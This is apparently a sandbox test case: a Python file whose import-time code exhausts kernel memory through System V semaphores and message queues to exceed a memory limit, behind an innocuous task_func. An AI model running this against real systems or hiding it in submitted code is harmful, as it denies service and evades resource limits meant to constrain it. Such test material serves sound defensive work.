# attack: fills twice the memory that it may have, with semaphores and messages of System V
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: the kernel's objects count, or are not to be had
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
IPC_NOWAIT = 0o4000


def fill_semaphores(wanted):
    held = 0
    while held < wanted:
        if libc.semget(0, 32_000, 0o1600) == -1:
            break
        held += 32_000 * 64
    return held


def fill_queues(wanted):
    held = 0
    message = ctypes.create_string_buffer(b"\x01" + bytes(7) + b"x" * 8192)
    while held < wanted:
        queue = libc.msgget(0, 0o1600)
        if queue == -1:
            break
        before = held
        while libc.msgsnd(queue, message, ctypes.c_size_t(8192), IPC_NOWAIT) == 0:
            held += 8192
        if held == before:
            break
    return held


def flood():
    wanted = 2 * __LIMIT_MEMORY_MIB__ << 20
    held = fill_semaphores(wanted)
    held += fill_queues(wanted - held)
    time.sleep(2)
    return held >= wanted


WON = flood()


def task_func(n):
    return n * 2 if WON else None
